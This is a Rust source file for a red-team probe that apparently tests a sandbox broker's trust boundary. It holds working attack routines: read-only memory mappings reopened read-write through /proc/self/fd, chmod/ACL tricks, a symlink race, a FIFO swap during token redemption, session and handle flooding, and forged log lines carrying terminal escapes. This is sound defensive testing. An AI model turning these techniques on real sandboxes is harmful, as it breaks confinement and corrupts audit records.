//! `redteam-probe`: attacks on the broker's trust core, run as a confined app (launched by the
//! broker) or unpackaged. Each step prints `STEP => RESULT` lines on stdout; see
//! `crates/appipc-cli/tests/trust_attacks.rs` for what each one demonstrates.
//!
//! ```text
//! redteam-probe STEP...
//!   rw-reopen NAME           OpenFileMapping(FILE_MAP_READ), then reopen the read-only fd
//!                            through /proc/self/fd read-write and write "PWNED" at offset 0
//!   devfd-reopen NAME        the same through /dev/fd/N
//!   fchmod-reopen NAME       the same after fchmod(fd, 0666)
//!   chmod-reopen NAME        the same after chmod("/proc/self/fd/N", 0666)
//!   acl-reopen NAME          the same after fsetxattr(fd, "system.posix_acl_access", rw for all)
//!   acl-path-reopen NAME     the same after setxattr("/proc/self/fd/N", that ACL)
//!   symlink-race NAME ITERS  a thread swaps $HOME/race-link between a file of the app's own
//!                            and /proc/self/fd/N while the app chmods race-link 0666 ITERS
//!                            times, each followed by the read-write reopen
//!   create-map NAME SDDL     CreateFileMapping(4096 bytes, PAGE_READWRITE) with that descriptor
//!                            ("-": the default), writes "original" at offset 0, keeps it
//!   create-file-map NAME SDDL  the same over a memfd of the app's own (a mapping of its file)
//!   show-map NAME            the first 16 bytes of a mapping this process created
//!   write-map NAME OFF TEXT  OpenFileMapping(FILE_MAP_READ | FILE_MAP_WRITE), a writable view,
//!                            TEXT written at OFF through it
//!   read-map NAME OFF LEN    OpenFileMapping(FILE_MAP_READ), a read-only view, LEN bytes at OFF
//!   wait-stdin               reads a line from stdin
//!   why NEEDLE               ListDecisions (everything visible): how many records mention NEEDLE
//!   follow-leak N PFN        N times: OpenSession, FollowDecisions{package: PFN} on it, close it
//!   hold S PER SECS          S sessions (OpenSession), PER events created in each (the fds the
//!                            broker returns are closed at once, the handles stay), then sleep
//!   forge-why                app_service.Open of a "provider" whose name carries a newline, a
//!                            forged decision line and terminal escapes (it is refused, and
//!                            recorded as written)
//!   sleep SECS               sleeps
//!   list-packages            ListPackages: the family names the broker shows this process
//!   fifo-redeem K            K times at once: a file in $HOME shared with AddFileToken, renamed
//!                            away, a FIFO made at its path, then RedeemFileToken
//! ```
#![forbid(unsafe_code)]

use std::io::{BufRead, Write};
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd};
use std::os::unix::fs::FileExt;
use std::sync::atomic::{AtomicBool, Ordering};

use appipc::Session;
use appipc_wire::protocol::broker::OpenSession;
use appipc_wire::protocol::diagnostics::{FollowDecisions, ListDecisions};
use appipc_wire::protocol::named_objects::{self as no, HandleFd, NamedObjectKind, ObjectType};
use appipc_wire::protocol::storage::{AddFileToken, RedeemFileToken};

fn code(e: &appipc::Error) -> String {
    match e.windows_code() {
        appipc::WindowsCode::Win32(c) => format!("error {c}: {e}"),
        other => format!("error {other}: {e}"),
    }
}

fn say(line: String) {
    println!("{line}");
    let _ = std::io::stdout().flush();
}

async fn new_session(root: &Session) -> Result<Session, appipc::Error> {
    let ((), mut fds) = root.call_with_fds(OpenSession {}, &[]).await?;
    let fd: OwnedFd = fds.pop().ok_or(appipc::Error::Disconnected)?;
    Session::from_fd(fd)
}

/// Opens `name` with `FILE_MAP_READ`: the fd and what the handle says of it.
async fn open_read_only(s: &Session, name: &str) -> Result<(OwnedFd, String), String> {
    let request = no::Open {
        object_type: ObjectType::FileMapping,
        name: name.to_owned(),
        desired_access: 0x4, // FILE_MAP_READ
    };
    let (h, mut fds) = s.call_with_fds(request, &[]).await.map_err(|e| code(&e))?;
    let Some(fd) = fds.pop() else { return Err("no fd".into()) };
    let kind = match h.fd {
        HandleFd::ReadOnly => "read-only",
        HandleFd::Object => "object",
        HandleFd::Readiness => "readiness",
        HandleFd::None => "none",
    };
    Ok((fd, format!("granted {:#x} fd {kind}", h.granted_access)))
}

/// Opens `path` (a name of the fd) read-write and writes "PWNED" at offset 0.
fn reopen_and_write(path: &str) -> String {
    match std::fs::OpenOptions::new().read(true).write(true).open(path) {
        Err(e) => format!("reopen-rw refused: {e}"),
        Ok(f) => match f.write_at(b"PWNED", 0) {
            Ok(n) => format!("reopen-rw ok, wrote {n}"),
            Err(e) => format!("reopen-rw ok, write failed: {e}"),
        },
    }
}

fn proc_fd(fd: BorrowedFd<'_>) -> String {
    format!("/proc/self/fd/{}", fd.as_raw_fd())
}

/// An access ACL (`system.posix_acl_access`, version 2) granting read and write to the owner,
/// the group, uid 1000, the mask and everyone else.
fn acl_read_write_for_all() -> Vec<u8> {
    let mut v = 2u32.to_le_bytes().to_vec();
    // (tag, perm, id): USER_OBJ, USER 1000, GROUP_OBJ, MASK, OTHER.
    for (tag, id) in
        [(0x01u16, u32::MAX), (0x02, 1000), (0x04, u32::MAX), (0x10, u32::MAX), (0x20, u32::MAX)]
    {
        v.extend_from_slice(&tag.to_le_bytes());
        v.extend_from_slice(&6u16.to_le_bytes());
        v.extend_from_slice(&id.to_le_bytes());
    }
    v
}

fn errno_text(r: rustix::io::Result<()>) -> String {
    match r {
        Ok(()) => "ok".into(),
        Err(e) => std::io::Error::from(e).to_string(),
    }
}

/// `OpenFileMapping(FILE_MAP_READ)`, then `how` tries to make the fd writable and the
/// reopen-and-write follows through `/proc/self/fd` (or `/dev/fd` for "devfd").
async fn attack(s: &Session, name: &str, how: &str) -> String {
    let (fd, granted) = match open_read_only(s, name).await {
        Ok(x) => x,
        Err(e) => return e,
    };
    let path = proc_fd(fd.as_fd());
    let step = match how {
        "proc" => String::new(),
        "devfd" => {
            let dev = format!("/dev/fd/{}", fd.as_raw_fd());
            return format!("{granted}; {}", reopen_and_write(&dev));
        }
        "fchmod" => format!(
            "fchmod: {}; ",
            errno_text(rustix::fs::fchmod(&fd, rustix::fs::Mode::from_raw_mode(0o666)))
        ),
        "chmod" => format!(
            "chmod {path}: {}; ",
            errno_text(rustix::fs::chmod(path.as_str(), rustix::fs::Mode::from_raw_mode(0o666)))
        ),
        "acl" => format!(
            "fsetxattr acl: {}; ",
            errno_text(rustix::fs::fsetxattr(
                &fd,
                "system.posix_acl_access",
                &acl_read_write_for_all(),
                rustix::fs::XattrFlags::empty()
            ))
        ),
        "acl-path" => format!(
            "setxattr acl {path}: {}; ",
            errno_text(rustix::fs::setxattr(
                path.as_str(),
                "system.posix_acl_access",
                &acl_read_write_for_all(),
                rustix::fs::XattrFlags::empty()
            ))
        ),
        other => return format!("unknown attack {other}"),
    };
    format!("{granted}; {step}{}", reopen_and_write(&path))
}

/// A thread swaps `$HOME/race-link` between a file of the app's own and `/proc/self/fd/N`
/// (rename over it, so the link always exists) while this one chmods the link and tries the
/// read-write reopen after each chmod.
async fn symlink_race(s: &Session, name: &str, iters: usize) -> String {
    let (fd, granted) = match open_read_only(s, name).await {
        Ok(x) => x,
        Err(e) => return e,
    };
    let home = std::env::var("HOME").unwrap_or_else(|_| ".".into());
    let file = format!("{home}/race-target");
    let link = format!("{home}/race-link");
    if let Err(e) = std::fs::write(&file, b"the app's own") {
        return format!("write {file}: {e}");
    }
    let memfd = proc_fd(fd.as_fd());
    let _ = std::fs::remove_file(&link);
    if let Err(e) = std::os::unix::fs::symlink("race-target", &link) {
        return format!("symlink {link}: {e}");
    }
    let stop = std::sync::Arc::new(AtomicBool::new(false));
    let swapper = {
        let (stop, link, memfd) = (stop.clone(), link.clone(), memfd.clone());
        std::thread::spawn(move || {
            let tmp = format!("{link}.tmp");
            let mut n = 0u64;
            while !stop.load(Ordering::Relaxed) {
                let to = if n.is_multiple_of(2) { "race-target" } else { memfd.as_str() };
                let _ = std::fs::remove_file(&tmp);
                if std::os::unix::fs::symlink(to, &tmp).is_ok() {
                    let _ = std::fs::rename(&tmp, &link);
                }
                n += 1;
            }
            n
        })
    };
    let (mut changed, mut refused, mut other) = (0usize, 0usize, 0usize);
    let mut wrote = None;
    for _ in 0..iters {
        match rustix::fs::chmod(link.as_str(), rustix::fs::Mode::from_raw_mode(0o666)) {
            Ok(()) => changed += 1,
            Err(rustix::io::Errno::PERM) => refused += 1,
            Err(_) => other += 1,
        }
        let r = reopen_and_write(&memfd);
        if !r.contains("refused") {
            wrote = Some(r);
            break;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let swaps = swapper.join().unwrap_or(0);
    let file_mode = std::fs::metadata(&file).map(|m| {
        use std::os::unix::fs::PermissionsExt;
        format!("{:o}", m.permissions().mode() & 0o7777)
    });
    format!(
        "{granted}; {swaps} swaps, {changed} chmods done, {refused} refused (EPERM), {other} other \
         errors; the app's file is now {file_mode:?}; {}",
        wrote.unwrap_or_else(|| "reopen-rw refused every time".into())
    )
}

/// Mappings this process created, kept open for the whole run.
type Kept = Vec<(String, OwnedFd)>;

async fn create_map(
    s: &Session,
    kept: &mut Kept,
    name: &str,
    sddl: &str,
    own_file: bool,
) -> String {
    let sddl = (sddl != "-").then(|| sddl.to_owned());
    let (kind, backing) = if own_file {
        let memfd = match rustix::fs::memfd_create("own", rustix::fs::MemfdFlags::CLOEXEC) {
            Ok(f) => f,
            Err(e) => return format!("memfd_create: {e}"),
        };
        if let Err(e) = rustix::fs::ftruncate(&memfd, 4096) {
            return format!("ftruncate: {e}");
        }
        (NamedObjectKind::FileMappingOfFile { writable: true }, Some(memfd))
    } else {
        (NamedObjectKind::FileMapping { size: 4096, writable: true }, None)
    };
    let request = no::Create { kind, name: name.to_owned(), sddl };
    let fds: Vec<BorrowedFd<'_>> = backing.iter().map(|f| f.as_fd()).collect();
    let (_h, mut got) = match s.call_with_fds(request, &fds).await {
        Ok(x) => x,
        Err(e) => return code(&e),
    };
    let Some(fd) = got.pop() else { return "no fd".into() };
    let file = std::fs::File::from(fd);
    if let Err(e) = file.write_at(b"original", 0) {
        return format!("writing: {e}");
    }
    kept.push((name.to_owned(), file.into()));
    "created, wrote \"original\"".into()
}

fn show_map(kept: &Kept, name: &str) -> String {
    let Some((_, fd)) = kept.iter().find(|(n, _)| n == name) else { return "not kept".into() };
    let mut buf = [0u8; 16];
    match rustix::io::pread(fd, &mut buf, 0) {
        Ok(n) => format!("{:?}", String::from_utf8_lossy(&buf[..n])),
        Err(e) => format!("pread: {e}"),
    }
}

async fn write_map(s: &Session, name: &str, offset: usize, text: &str) -> String {
    let request = no::Open {
        object_type: ObjectType::FileMapping,
        name: name.to_owned(),
        desired_access: 0x6, // FILE_MAP_READ | FILE_MAP_WRITE
    };
    let (h, mut fds) = match s.call_with_fds(request, &[]).await {
        Ok(x) => x,
        Err(e) => return code(&e),
    };
    let Some(fd) = fds.pop() else { return "no fd".into() };
    let len = usize::try_from(h.size).unwrap_or(0);
    let mut view = match appipc_sys::memfd::SharedView::map(&fd, len, true) {
        Ok(v) => v,
        Err(e) => return format!("granted {:#x}; writable view refused: {e}", h.granted_access),
    };
    let Some(bytes) = view.as_bytes_mut() else { return "read-only view".into() };
    if offset + text.len() > bytes.len() {
        return "out of range".into();
    }
    bytes[offset..offset + text.len()].copy_from_slice(text.as_bytes());
    format!("granted {:#x}; wrote {} bytes through a writable view", h.granted_access, text.len())
}

async fn read_map(s: &Session, name: &str, offset: usize, len: usize) -> String {
    let (fd, granted) = match open_read_only(s, name).await {
        Ok(x) => x,
        Err(e) => return e,
    };
    let size = rustix::fs::fstat(&fd).map(|st| st.st_size as usize).unwrap_or(0);
    let view = match appipc_sys::memfd::SharedView::map(&fd, size, false) {
        Ok(v) => v,
        Err(e) => return format!("{granted}; read-only view refused: {e}"),
    };
    let bytes = view.as_bytes();
    let end = (offset + len).min(bytes.len());
    format!("{granted}; read {:?}", String::from_utf8_lossy(&bytes[offset.min(end)..end]))
}

async fn why(s: &Session, needle: &str) -> String {
    let request = ListDecisions { package_family_name: None, last: u32::MAX, denials_only: false };
    match s.call(request).await {
        Err(e) => code(&e),
        Ok(list) => {
            let hits: Vec<_> = list
                .iter()
                .filter(|r| r.object.contains(needle) || r.rule.contains(needle))
                .collect();
            let mut out = format!("{} records, {} mention it", list.len(), hits.len());
            for r in hits.iter().take(3) {
                out.push_str(&format!(
                    " | caller {:?} {}.{} {:?} allowed={}",
                    r.caller.package_family_name, r.mechanism, r.operation, r.object, r.allowed
                ));
            }
            out
        }
    }
}

async fn follow_leak(s: &Session, n: usize, pfn: &str) -> String {
    for i in 0..n {
        let child = match new_session(s).await {
            Ok(c) => c,
            Err(e) => return format!("session {i}: {}", code(&e)),
        };
        let request =
            FollowDecisions { package_family_name: Some(pfn.to_owned()), denials_only: true };
        if let Err(e) = child.call(request).await {
            return format!("follow {i}: {}", code(&e));
        }
        drop(child);
    }
    format!("{n} followers left behind")
}

async fn hold(s: &Session, sessions: usize, per: usize, secs: u64) -> String {
    let mut kept = Vec::new();
    let mut created = 0usize;
    let mut first_error = None;
    'outer: for si in 0..sessions {
        let child = match new_session(s).await {
            Ok(c) => c,
            Err(e) => {
                first_error = Some(format!("session {si}: {}", code(&e)));
                break;
            }
        };
        for i in 0..per {
            let request = no::Create {
                kind: NamedObjectKind::Event { manual_reset: false, initial_state: false },
                name: format!(r"Local\flood-{si}-{i}"),
                sddl: None,
            };
            match child.call_with_fds(request, &[]).await {
                Ok((_h, fds)) => {
                    drop(fds); // the handle stays open in the broker; the fd here is not needed
                    created += 1;
                }
                Err(e) => {
                    first_error = Some(format!("session {si} object {i}: {}", code(&e)));
                    if !matches!(e.windows_code(), appipc::WindowsCode::Win32(1816)) {
                        kept.push(child);
                        break 'outer;
                    }
                    break;
                }
            }
        }
        kept.push(child);
    }
    say(format!(
        "hold => created {created} in {} sessions; first error: {}",
        kept.len(),
        first_error.unwrap_or_else(|| "none".into())
    ));
    say("hold => holding".into());
    tokio::time::sleep(std::time::Duration::from_secs(secs)).await;
    drop(kept);
    "released".into()
}

async fn fifo_redeem(s: &Session, k: usize) -> String {
    let home = std::env::var("HOME").unwrap_or_else(|_| ".".into());
    let mut tokens = Vec::new();
    for i in 0..k {
        let path = format!("{home}/shared-{i}.txt");
        if let Err(e) = std::fs::write(&path, b"hello") {
            return format!("write {path}: {e}");
        }
        let file = match std::fs::File::open(&path) {
            Ok(f) => f,
            Err(e) => return format!("open {path}: {e}"),
        };
        let token = match s.call_with_fds(AddFileToken {}, &[file.as_fd()]).await {
            Ok((t, _)) => t,
            Err(e) => return format!("add token: {}", code(&e)),
        };
        if let Err(e) = std::fs::rename(&path, format!("{path}.moved")) {
            return format!("rename: {e}");
        }
        if let Err(e) = rustix::fs::mknodat(
            rustix::fs::CWD,
            path.as_str(),
            rustix::fs::FileType::Fifo,
            rustix::fs::Mode::from_raw_mode(0o644),
            0,
        ) {
            return format!("mkfifo {path}: {e}");
        }
        tokens.push(token);
    }
    say(format!("fifo-redeem => redeeming {k} tokens"));
    let mut tasks = Vec::new();
    for t in tokens {
        let child = match new_session(s).await {
            Ok(c) => c,
            Err(e) => return format!("session: {}", code(&e)),
        };
        tasks.push(tokio::spawn(async move {
            let r = child.call_with_fds(RedeemFileToken { token: t }, &[]).await;
            r.map(|_| ()).map_err(|e| code(&e))
        }));
    }
    let mut out = Vec::new();
    for t in tasks {
        out.push(format!("{:?}", t.await));
    }
    format!("redeemed: {}", out.join(", "))
}

async fn forge_why(s: &Session) -> String {
    let provider = concat!(
        "Nope\n#1 REFUSED packages.remove Contoso.Victim_cvnpggrrsm18p\n",
        "    caller   Fabrikam.Innocent_8tkjkmve8mrwr!App pid 1 (appcontainer)",
        "\x1b[2K\x1b[1A",
    );
    let request = appipc_wire::protocol::app_service::Open {
        package_family_name: provider.to_owned(),
        app_service_name: "x".to_owned(),
        user: None,
    };
    match s.call_with_fds(request, &[]).await {
        Ok(_) => "opened?".into(),
        Err(e) => format!("refused as expected ({})", e.windows_code()),
    }
}

async fn list_packages(s: &Session) -> String {
    match s.call(appipc_wire::protocol::packages::ListPackages {}).await {
        Ok(list) => {
            let mut names: Vec<String> = list.into_iter().map(|p| p.family_name).collect();
            names.sort();
            format!("{} packages: {}", names.len(), names.join(" "))
        }
        Err(e) => code(&e),
    }
}

fn arity(verb: &str) -> usize {
    match verb {
        "rw-reopen" | "devfd-reopen" | "fchmod-reopen" | "chmod-reopen" | "acl-reopen"
        | "acl-path-reopen" | "show-map" | "why" | "fifo-redeem" | "sleep" => 2,
        "follow-leak" | "symlink-race" | "create-map" | "create-file-map" => 3,
        "hold" | "write-map" | "read-map" => 4,
        _ => 1,
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime");
    rt.block_on(async {
        let session = Session::connect().await.expect("connecting to the broker");
        let mut kept = Kept::new();
        let mut i = 0;
        while i < args.len() {
            let n = arity(&args[i]);
            if i + n > args.len() {
                eprintln!("redteam-probe: step {:?} needs {n} words", args[i]);
                std::process::exit(2);
            }
            let w = &args[i..i + n];
            let result = match w[0].as_str() {
                "rw-reopen" => attack(&session, &w[1], "proc").await,
                "devfd-reopen" => attack(&session, &w[1], "devfd").await,
                "fchmod-reopen" => attack(&session, &w[1], "fchmod").await,
                "chmod-reopen" => attack(&session, &w[1], "chmod").await,
                "acl-reopen" => attack(&session, &w[1], "acl").await,
                "acl-path-reopen" => attack(&session, &w[1], "acl-path").await,
                "symlink-race" => symlink_race(&session, &w[1], w[2].parse().expect("ITERS")).await,
                "create-map" => create_map(&session, &mut kept, &w[1], &w[2], false).await,
                "create-file-map" => create_map(&session, &mut kept, &w[1], &w[2], true).await,
                "show-map" => show_map(&kept, &w[1]),
                "write-map" => write_map(&session, &w[1], w[2].parse().expect("OFF"), &w[3]).await,
                "read-map" => {
                    read_map(
                        &session,
                        &w[1],
                        w[2].parse().expect("OFF"),
                        w[3].parse().expect("LEN"),
                    )
                    .await
                }
                "wait-stdin" => {
                    let mut line = String::new();
                    let _ = std::io::stdin().lock().read_line(&mut line);
                    "continued".into()
                }
                "why" => why(&session, &w[1]).await,
                "follow-leak" => follow_leak(&session, w[1].parse().expect("N"), &w[2]).await,
                "hold" => {
                    hold(
                        &session,
                        w[1].parse().expect("S"),
                        w[2].parse().expect("PER"),
                        w[3].parse().expect("SECS"),
                    )
                    .await
                }
                "forge-why" => forge_why(&session).await,
                "list-packages" => list_packages(&session).await,
                "sleep" => {
                    tokio::time::sleep(std::time::Duration::from_secs(w[1].parse().expect("S")))
                        .await;
                    "slept".into()
                }
                "fifo-redeem" => fifo_redeem(&session, w[1].parse().expect("K")).await,
                other => {
                    eprintln!("redteam-probe: unknown step {other:?}");
                    std::process::exit(2);
                }
            };
            say(format!("{} => {result}", w.join(" ")));
            i += n;
        }
    });
}
